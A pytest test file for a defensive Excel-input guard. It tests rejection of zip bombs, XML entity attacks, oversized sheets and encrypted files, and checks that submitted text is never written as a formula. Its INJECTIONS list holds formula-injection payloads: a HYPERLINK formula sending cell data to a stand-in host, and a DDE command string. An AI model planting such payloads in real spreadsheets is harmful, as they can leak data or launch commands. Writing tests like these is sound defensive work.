"""guard.check_file on each hostile kind (in-process, fast), and the writers' text guard.

The same corpus goes through the real command line in tests/hostile/test_hostile.py.
"""
from __future__ import annotations

import hashlib
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

sys.path.insert(0, str(Path(__file__).parent / "hostile"))
import make_corpus as mc  # noqa: E402

from xjr_excel import errors
import office as render
from xjr_excel.guard import check as guard
from xjr_excel.errors import InputRejected  # noqa: E402
from xjr_excel.spec.definition import get_spec  # noqa: E402

# kind → (InputRejected.kind, words the message must contain)
REFUSED = {
    "empty": ("empty", ["空的", "0字节"]),
    "truncated": ("damaged", ["文件已损坏", "截断"]),
    "renamed_csv": ("not_workbook", ["不是Excel工作簿", "CSV", "请在Excel中另存为.xlsx后重新提交"]),
    "html_xls": ("not_workbook", ["网页文件", "请在Excel中另存为.xlsx后重新提交"]),
    "pdf": ("not_workbook", ["PDF"]),
    "png": ("not_workbook", ["图片"]),
    "docx": ("not_workbook", ["Word文档"]),
    "ods": ("not_workbook", ["OpenDocument电子表格", ".xlsx"]),
    "lock_file": ("lock_file", ["锁定文件", "~$"]),
    "too_large": ("too_large", ["超过上限"]),
    "zip_bomb": ("zip_bomb", ["压缩炸弹", "1024 MB"]),
    "zip_bomb_ratio": ("zip_bomb", ["压缩比"]),
    "zip_bomb_lying": ("damaged", ["文件已损坏", "校验失败"]),
    "many_members": ("zip_bomb", ["部件"]),
    "entity_expansion": ("xml_dtd", ["DTD", "实体膨胀", "xl/worksheets/sheet1.xml"]),
    "external_entity": ("xml_dtd", ["DTD", "xl/workbook.xml"]),
    "many_rows": ("too_big_sheet", ["Sheet1", "延伸到第", "20000行"]),
    "far_cell": ("too_big_sheet", ["Sheet1", "第1048576行"]),
    "implicit_columns": ("too_big_sheet", ["Sheet1", "第1000列"]),
    "xls_far_cell": ("too_big_sheet", ["第60000行"]),
    "string_count": ("damaged", ["共享字符串表", "4000000000"]),
    "xls_bad_record": ("damaged", ["文件已损坏"]),
    "encrypted": ("encrypted", ["文件已加密，请去除密码后重新提交", "不会尝试破解"]),
    "encrypted_xls": ("encrypted", ["文件已加密，请去除密码后重新提交", ".xls"]),
}


def sha(p: Path) -> str:
    return hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else ""


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    made: dict[str, Path] = {}

    def get(kind: str) -> Path:
        if kind not in made:
            d = tmp_path_factory.mktemp(kind)
            made[kind] = mc.KINDS[kind](d)
        return made[kind]
    return get


@pytest.mark.parametrize("kind", sorted(REFUSED))
def test_refused(corpus, kind):
    path = corpus(kind)
    before = sorted(p.name for p in path.parent.iterdir()), sha(path)
    t0 = time.perf_counter()
    with pytest.raises(InputRejected) as exc:
        guard.check_file(path)
    elapsed = time.perf_counter() - t0
    want_kind, words = REFUSED[kind]
    e = exc.value
    assert e.kind == want_kind, e.message
    assert type(e) is errors.REFUSALS[want_kind] and e.code.startswith("XJR-E-")   # one class per refusal
    assert e.file == str(path)
    assert e.exit_code == errors.EXIT_UNREADABLE
    for w in words:
        assert w in e.message, (w, e.message)
    assert "\n" not in e.message and "Traceback" not in e.message
    assert (sorted(p.name for p in path.parent.iterdir()), sha(path)) == before   # nothing touched
    assert elapsed < 10, f"bounded time: {elapsed:.1f}s"   # generous: only catches unbounded work


def test_missing_and_directory(tmp_path):
    with pytest.raises(InputRejected) as exc:
        guard.check_file(tmp_path / "没有这个文件.xlsx")
    assert exc.value.kind == "missing" and "找不到" in exc.value.message
    with pytest.raises(InputRejected) as exc:
        guard.check_file(tmp_path)
    assert exc.value.kind == "directory" and "文件夹" in exc.value.message


def test_fifo_is_refused_not_waited_on(tmp_path):
    import os
    fifo = tmp_path / "管道.xlsx"
    os.mkfifo(fifo)
    with pytest.raises(InputRejected) as exc:
        guard.check_file(fifo)          # opening a FIFO for reading would block forever
    assert exc.value.kind == "not_regular"


def test_legacy_xls_from_libreoffice_is_accepted(corpus):
    info = guard.check_file(corpus("xls"))
    assert info.kind == "xls" and not info.has_macros and len(info.sha256) == 64


def test_wrong_template_passes_the_door_and_lists_its_sheets(corpus):
    # Not our template is decided by the reader (which tables are found); the door lets it in
    # and tells the reader the sheet names for the message.
    info = guard.check_file(corpus("wrong_template"))
    assert info.kind == "xlsx" and info.sheets == ("企业统计", "汇总")
    msg = guard.describe_missing(get_spec(), info.sheets,
                                 [t for t in get_spec().tables])
    for w in ("不是本填报模板", "“附1”", "“附5”", "T1_KeyEnterprises", "“企业统计”", "最新模板"):
        assert w in msg, (w, msg)
    e = guard.reject_not_template(get_spec(), "x.xlsx", info.sheets)
    assert e.kind == "not_template" and e.exit_code == 2


def test_template_xlsx_and_xlsm(tmp_path):
    info = guard.check_file(mc.template_xlsx(tmp_path / "南京市.xlsx"))
    assert info.kind == "xlsx" and not info.has_macros
    assert {"封面", "实施方案", "附1", "附2", "附3", "附4", "附5"} <= set(info.sheets)
    info = guard.check_file(mc.template_xlsx(tmp_path / "南京市.xlsm"))
    assert info.kind == "xlsm" and info.has_macros      # VBA is reported, never run


def test_files_saved_by_excel_and_libreoffice_pass_the_door(tmp_path):
    """No false alarms: a workbook Excel wrote (xlwings ships one) and one LibreOffice re-saved."""
    import xlwings
    excel_made = Path(xlwings.__file__).parent / "quickstart.xlsm"
    info = guard.check_file(excel_made)
    assert info.kind == "xlsm" and info.has_macros
    city = mc.make_city(tmp_path)
    resaved = render.convert(city, tmp_path / "lo", "xlsx")
    info = guard.check_file(resaved)
    assert info.kind == "xlsx" and {"附1", "附5"} <= set(info.sheets)


def test_external_links_are_reported(tmp_path):
    src = mc.plain_xlsx(tmp_path / "a.xlsx")
    p = mc.rewrite_zip(src, tmp_path / "外部链接.xlsx", {
        "xl/externalLinks/externalLink1.xml":
            b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'})
    assert guard.check_file(p).has_external_links


def test_zip_bomb_memory_and_time_in_process(corpus):
    """The lying bomb is the one that makes us inflate: it must stay bounded."""
    path = corpus("zip_bomb_lying")
    code = ("import resource,time,sys; from xjr_excel.guard import check as guard; t=time.time()\n"
            "try: guard.check_file(sys.argv[1])\nexcept Exception as e: print(e.code)\n"
            "print(time.time()-t, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)")
    out = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True,
                         cwd=Path(__file__).parents[1], timeout=120)
    name, line = out.stdout.splitlines()
    secs, maxrss_kib = line.split()
    assert name == "XJR-E-DAMAGED"      # the lying sizes show up as a CRC failure
    assert int(maxrss_kib) < 500 * 1024, f"peak {int(maxrss_kib) / 1024:.0f} MiB"


def test_guarded_zip_read_caps_inflation(corpus):
    path = corpus("zip_bomb_ratio")
    with zipfile.ZipFile(path) as zf:
        assert guard.guarded_zip_read(zf, "[Content_Types].xml", 1 << 20).startswith(b"<")
        with pytest.raises(InputRejected) as exc:
            guard.guarded_zip_read(zf, "xl/worksheets/sheet1.xml", 1 << 20, path)
    assert exc.value.kind == "zip_bomb"


def test_limits_come_from_the_policy(corpus, tmp_path):
    """Tighten max_rows_per_sheet: the same normal file is now refused (policy is data)."""
    lim = {**guard.input_limits(), "max_rows_per_sheet": 1}
    path = mc.plain_xlsx(tmp_path / "两行.xlsx")
    guard.check_file(path)
    with pytest.raises(InputRejected) as exc:
        guard.check_file(path, limits=lim)
    assert exc.value.kind == "too_big_sheet" and "1行" in exc.value.message


# --------------------------------------------------------------------------
# Text from cities is never a formula in what we write
# --------------------------------------------------------------------------

INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "=1+1", "+1+1", "-1+1", "@SUM(1,2)",
              "\t=1+1", "=cmd|' /C calc'!A0"]


def test_is_formula_like():
    for v in INJECTIONS:
        assert guard.is_formula_like(v)
    for v in ("南京某某科技有限公司", "1+1", "", None, 12, "（=）"):
        assert not guard.is_formula_like(v)


def test_text_stays_text_in_openpyxl_calamine_and_libreoffice(tmp_path):
    from python_calamine import CalamineWorkbook
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["set_text", "safe_text", "unguarded"])
    for v in INJECTIONS:
        ws.append([None, guard.safe_text(v), "=1+1"])
        guard.set_text(ws.cell(row=ws.max_row, column=1), v)
    wo = openpyxl.Workbook(write_only=True)     # the write-only path CONSOLIDATE may use
    wos = wo.create_sheet("W")
    for v in INJECTIONS:
        wos.append([guard.safe_text(v, wos)])
    out, out_wo = tmp_path / "out.xlsx", tmp_path / "wo.xlsx"
    wb.save(out)
    wo.save(out_wo)

    back = openpyxl.load_workbook(out).active
    for i, v in enumerate(INJECTIONS, start=2):
        for col in (1, 2):
            c = back.cell(row=i, column=col)
            assert c.data_type == "s" and c.value == v.replace("\r", "\n"), (c.value, c.data_type)
            assert c.quotePrefix
        assert back.cell(row=i, column=3).data_type == "f"       # the control really is a formula
    rows = CalamineWorkbook.from_path(str(out)).get_sheet_by_index(0).to_python()
    assert [r[0] for r in rows[1:]] == INJECTIONS
    assert [r[0] for r in CalamineWorkbook.from_path(str(out_wo)).get_sheet_by_index(0).to_python()] == INJECTIONS

    csv = render.convert(out, tmp_path / "lo", "csv")     # LibreOffice opens it and computes formulas
    lines = csv.read_text(encoding="utf-8").splitlines()
    assert lines[1].split(",")[-1] == "2"                     # unguarded "=1+1" was computed …
    assert lines[2].startswith("=1+1,=1+1,")                  # … ours stayed text in both columns
    assert "evil.example" in lines[1]


def test_write_row_keeps_numbers(tmp_path):
    wb = openpyxl.Workbook()
    guard.write_row(wb.active, 1, 1, ["=1+1", 3, 2.5, None, "南京"])
    assert [c.data_type for c in wb.active[1]] == ["s", "n", "n", "n", "s"]


# --------------------------------------------------------------------------
# No tracebacks for users
# --------------------------------------------------------------------------

def test_run_guarded_unexpected_error_is_one_sentence_and_a_log(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("XJR_LOG_DIR", str(tmp_path / "logs"))

    def boom():
        raise RuntimeError("内部细节")
    assert errors.run_guarded(boom) == errors.EXIT_UNREADABLE
    err = capsys.readouterr().err
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert "程序内部出错" in err and "--debug" in err
    log = Path(err.split("日志：")[1].split("。")[0])
    assert log.parent == tmp_path / "logs" and "RuntimeError: 内部细节" in log.read_text(encoding="utf-8")

    assert errors.run_guarded(boom, debug=True) == errors.EXIT_UNREADABLE
    assert "Traceback (most recent call last)" in capsys.readouterr().err


def test_run_guarded_input_rejected_has_no_traceback(capsys):
    def reject():
        raise InputRejected("文件已加密，请去除密码后重新提交。", file="a.xlsx", kind="encrypted")
    assert errors.run_guarded(reject) == 2
    err = capsys.readouterr().err
    assert err.strip() == "错误：a.xlsx：文件已加密，请去除密码后重新提交。"
